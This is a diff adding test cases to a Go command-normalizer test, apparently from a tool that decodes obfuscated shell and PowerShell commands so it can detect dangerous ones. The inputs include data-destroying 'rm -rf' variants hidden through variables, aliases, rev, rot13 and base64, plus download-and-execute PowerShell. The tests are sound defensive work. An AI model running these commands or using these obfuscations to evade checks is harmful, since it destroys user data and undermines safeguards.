@@ -99,6 +99,14 @@ func TestNormalize(t *testing.T) {
 		{"powershell.exe path", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -EncodedCommand ` + psEncode("iex (iwr http://x)"),
 			[]string{"invoke-expression (invoke-webrequest http://x)"}},
 		{"cmd to powershell", `cmd /c powershell -c "rm -r -fo C:\"`, []string{`remove-item -force -recurse C:\`}},
+		// the line builds its command from parts it sets itself (expand.go)
+		{"variables", `a=r;b=m;c=' -rf';d=~; eval "$a$b$c $d/*"`, []string{"rm -f -r ~/*"}},
+		{"variables, braces and export", `export T=/; R="rm -rf"; ${R} ${T}`, []string{"rm -f -r /"}},
+		{"alias", `shopt -s expand_aliases; alias tidy='/bin/rm -rf'; tidy ~/.ssh`, []string{"rm -f -r ~/.ssh"}},
+		{"strings joined with plus", `powershell -c "$c='Inv'+'oke-Exp'+'ression'; & $c (iwr http://x)"`, []string{"invoke-expression (invoke-webrequest http://x)"}},
+		{"echo through rev into sh", `echo '/ fr- mr' | rev | sh`, []string{"rm -f -r /"}},
+		{"echo through rot13 into sh", `echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash`, []string{"rm -f -r /"}},
+		{"echo through base64 read back by eval", `eval "$(echo cm0gLXJmIC8= | base64 -d)"`, []string{"rm -f -r /"}},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -123,6 +131,9 @@ func TestNormalizeExact(t *testing.T) {
 		{"ls -la | grep x", []string{"ls -a -l | grep x"}},
 		{"", []string{}},
 		{"   \n ; ;; && ", []string{}},
+		// a variable set and used is only expanded once: no duplicates
+		{"export FOO=bar && make test", []string{"export FOO=bar", "make test"}},
+		{"V=1.2; git tag v$V", []string{"V=1.2", "git tag v$V", "git tag v1.2"}},
 	}
 	for _, tc := range tests {
 		if got := Normalize(tc.in); !slices.Equal(got, tc.want) {
